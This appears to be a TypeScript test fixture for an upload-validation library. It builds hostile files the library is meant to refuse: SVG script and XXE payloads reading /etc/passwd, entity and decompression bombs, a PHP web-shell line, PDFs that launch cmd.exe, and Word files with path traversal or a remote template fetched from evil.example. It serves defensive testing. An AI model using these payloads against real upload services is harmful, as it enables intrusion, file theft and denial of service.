import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { MediaRefusal } from '#media/model/media.ts'

export type HostileFile = { what: string; name: string; bytes: Uint8Array; refusal: MediaRefusal }

/** Files that the library must refuse, each with the reason that its sender is told. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const file = (
    what: string,
    name: string,
    refusal: MediaRefusal,
    bytes: Uint8Array | string,
  ): HostileFile => ({
    ...{ what, name, refusal },
    bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
  })
  return [
    ...svgs.map((svg) => file(`an SVG: ${svg.slice(0, 60)}`, 'dibujo.svg', 'svg', svg)),
    file('an SVG called JPEG', 'foto.jpg', 'svg', svgs[0] as string),
    file('an SVG called text', 'nota.txt', 'svg', svgs[0] as string),
    file('an SVG in UTF-16', 'dibujo.svg', 'svg', Buffer.from(`\uFEFF${svgs[0]}`, 'utf16le')),
    file(
      'an SVG in UTF-16, the other way round',
      'd.svg',
      'svg',
      Buffer.from(`\uFEFF${svgs[0]}`, 'utf16le').swap16(),
    ),
    file('a page called JPEG', 'foto.jpg', 'type', '<!doctype html><script>alert(1)</script>'),
    file('a page', 'a.html', 'type', '<!doctype html><script>alert(1)</script>'),
    file('a script', 'a.js', 'type', 'alert(1)'),
    file('a program', 'a.exe', 'type', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)])),
    file('a program called PDF', 'a.pdf', 'type', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)])),
    file('PHP', 'a.php.jpg', 'type', '<?php system($_GET[0]); ?>'),
    file('nothing', 'vacio.pdf', 'empty', ''),
    ...['%', '%PD', 'PK\x03'].map((few) => file(`a file of ${few.length} bytes`, 'a.pdf', 'type', few)),
    file('50,000 × 50,000 pixels', 'bomba.png', 'too-many-pixels', pixelBomb()),
    file('a moving GIF', 'a.gif', 'animated', await moving('gif')),
    file('a moving WebP', 'a.webp', 'animated', await moving('webp')),
    file('half a JPEG', 'a.jpg', 'damaged', (await noise(200).jpeg().toBuffer()).subarray(0, 4000)),
    file('half a PNG', 'a.png', 'damaged', (await noise(200).png().toBuffer()).subarray(0, 4000)),
    file(
      'a PDF with a script',
      'a.pdf',
      'active',
      pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    ),
    file(
      'a PDF with an escaped script',
      'a.pdf',
      'active',
      pdf('/OpenAction << /S /J#61vaScript /#4aS (x) >>'),
    ),
    file('a PDF with a packed script', 'a.pdf', 'active', pdf('', packed('<< /S /JavaScript /JS (x) >>'))),
    file('a PDF that starts a program', 'a.pdf', 'active', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')),
    file(
      'a PDF with a file in it',
      'a.pdf',
      'embedded-files',
      pdf('/Names << /EmbeddedFiles << /Names [] >> >>'),
    ),
    ...[
      '%stream\n5 0 obj << /S /Launch /F (cmd.exe) >> endobj\n%endstream\n',
      '5 0 obj\n<< /T (>>\nstream\n) /A << /S %x\n/L#61unch /F (cmd.exe) >> /B (endstream) >>\nendobj\n',
    ].map((objects) =>
      file('a PDF that starts a program from what looks like a stream', 'a.pdf', 'active', pdf('', objects)),
    ),
    file('an encrypted PDF', 'a.pdf', 'encrypted', pdf('', '', '/Encrypt 9 0 R')),
    file('a PDF that is cut off', 'a.pdf', 'damaged', pdf('').subarray(0, 200)),
    file('a PDF without pages', 'a.pdf', 'damaged', '%PDF-1.7\n%%EOF'),
    file('an archive', 'a.zip', 'type', zip({ 'a.txt': 'a' })),
    file('an archive called docx', 'a.docx', 'type', zip({ 'a.txt': 'a' })),
    file('a docx that leads out', 'a.docx', 'damaged', docx({ '../../etc/cron.d/x': 'x' })),
    file('a docx that leads out on Windows', 'a.docx', 'damaged', docx({ '..\\..\\x': 'x' })),
    file('a docx with an absolute name', 'a.docx', 'damaged', docx({ '/etc/passwd': 'x' })),
    file('a docx with macros', 'a.docm', 'macros', docx({ 'word/vbaProject.bin': 'x' })),
    file(
      'a docx with a program',
      'a.docx',
      'embedded-files',
      docx({ 'word/embeddings/oleObject1.bin': 'x' }),
    ),
    file(
      'a docx that fetches its template',
      'a.docx',
      'active',
      docx({ 'word/_rels/settings.xml.rels': template }),
    ),
    ...hiddenTemplates.map((relations) =>
      file(
        'a docx that fetches its template and hides it',
        'a.docx',
        'active',
        docx({ 'word/_rels/settings.xml.RELS': relations }),
      ),
    ),
    file(
      'a docx whose relations come after much space',
      'a.docx',
      'active',
      docx({ 'word/_rels/settings.xml.rels': `${' '.repeat(9_000_000)}${template}` }),
    ),
    file(
      'a docx whose relations are in another encoding',
      'a.docx',
      'damaged',
      docx({ 'word/_rels/settings.xml.rels': [...template].join('\0') }),
    ),
    file('a docx that unpacks to 2 GB, and says so', 'a.docx', 'unpacks-too-large', saidBomb()),
    file('a docx that unpacks to more than it says', 'a.docx', 'unpacks-too-large', hiddenBomb()),
    file('a docx of 12,000 parts', 'a.docx', 'unpacks-too-large', manyParts(12_000)),
    file('a docx that is cut off', 'a.docx', 'damaged', docx({}).subarray(0, 120)),
  ]
}

const svgs = [
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>',
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
  `<!--${'x'.repeat(5000)}--><svg\nonload="alert(1)"/>`,
  ...nested(),
  '<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
]

/** Each part repeats the one before ten times. */
function nested(): string[] {
  const uses = Array.from(
    { length: 12 },
    (_, at) => `<g id="l${at + 1}">${`<use href="#l${at}"/>`.repeat(10)}</g>`,
  ).join('')
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
    '',
  )
  return [
    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><g id="l0"><path d="M0 0h9v9z"/></g>${uses}</defs><use href="#l12"/></svg>`,
    `<!DOCTYPE svg [<!ENTITY l0 "ja">${laughs}]><svg viewBox="0 0 9 9"><path id="&l9;"/></svg>`,
    '<svg viewBox="0 0 9 9"><use xlink:href="file:///etc/passwd"/></svg>',
    '<svg viewBox="0 0 9 9"><image href="http://127.0.0.1/a.png"/></svg>',
    '<svg viewBox="0 0 9 9"><path d="M0 0h9v9z"/><animate attributeName="href" to="javascript:alert(1)"/></svg>',
  ]
}

const template =
  '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'

const hiddenTemplates = [
  template.replaceAll('"', "'"),
  template.replace('TargetMode=', 'TargetMode \n= '),
  template.replaceAll('Relationship', 'r:Relationship'),
  template.replace('External', 'Extern&#97;l').replace('attached', '&#x61;ttached'),
  template.replace('Id="r"', 'Id="r>"'),
]

/** A picture that no compression makes small. */
export function noise(side: number, height = side) {
  return sharp({
    create: {
      width: side,
      height,
      channels: 3,
      background: '#888',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
}

/** A PDF of one page, with more in its catalogue, more objects, and more in its trailer. */
export function pdf(catalogue: string, objects = '', trailer = ''): Buffer {
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'
  return Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalogue} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n${page}\nendobj\n${objects}trailer\n<< /Root 1 0 R /Size 4 ${trailer} >>\n%%EOF\n`,
    'latin1',
  )
}

/** An object that a PDF keeps packed together with others. */
function packed(object: string): string {
  const held = deflateSync(Buffer.from(`7 0 ${object}`)).toString('latin1')
  return `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${held.length} >>\nstream\n${held}\nendstream\nendobj\n`
}

/** A Word document with these parts beside those that each has. */
export function docx(parts: Record<string, string>, pages = 3): Buffer {
  return zip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': '<w:document/>',
    'docProps/app.xml': `<Properties><Pages>${pages}</Pages></Properties>`,
    ...parts,
  })
}

/** `said` is the size that the archive claims, where that is false. */
export type ZipPart = { name: string; content: Uint8Array; said?: number }

export function zip(parts: Record<string, string>): Buffer {
  return zipOf(Object.entries(parts).map(([name, text]) => ({ name, content: Buffer.from(text) })))
}

export function zipOf(entries: ZipPart[]): Buffer {
  const local: Buffer[] = []
  const central: Buffer[] = []
  let at = 0
  for (const { name, content, said = content.length } of entries) {
    const body = deflateRawSync(content)
    const label = Buffer.from(name)
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(crc32(content), 10)
    facts.writeUInt32LE(body.length, 14)
    facts.writeUInt32LE(said, 18)
    facts.writeUInt16LE(label.length, 22)
    const begin = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts, label, body])
    const end = Buffer.alloc(14)
    end.writeUInt32LE(at, 10)
    local.push(begin)
    central.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), facts, end, label]))
    at += begin.length
  }
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 8)
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...local, directory, end])
}

const base: ZipPart[] = [
  { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
  { name: 'word/document.xml', content: Buffer.from('<w:document/>') },
]

function saidBomb(): Buffer {
  return zipOf([...base, { name: 'word/a.xml', content: Buffer.alloc(1000), said: 2 ** 31 }])
}

function hiddenBomb(): Buffer {
  return zipOf([...base, { name: 'word/a.xml', content: Buffer.alloc(64 * 1024 * 1024), said: 10 }])
}

function manyParts(count: number): Buffer {
  return zipOf(
    Array.from({ length: count }, (_, at) => ({ name: `word/${at}.xml`, content: Buffer.alloc(0) })),
  )
}

async function moving(format: 'gif' | 'webp'): Promise<Buffer> {
  const frames = await Promise.all(['#a00', '#0a0', '#00a'].map((background) => frame(background)))
  return sharp(frames, { join: { animated: true } })
    [format]({ delay: 50 })
    .toBuffer()
}

function frame(background: string): Promise<Buffer> {
  return sharp({ create: { width: 8, height: 8, channels: 3, background } })
    .png()
    .toBuffer()
}

/** One bit a pixel, all the same: few kilobytes that unpack to 300 MB, and to 7.5 GB as a picture. */
export function pixelBomb(): Buffer {
  const side = 50_000
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc((side / 8 + 1) * 100), { level: 9 })
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', head),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** A chunk of a PNG (W3C PNG, 5.3). */
export function chunk(type: string, content: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(content.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
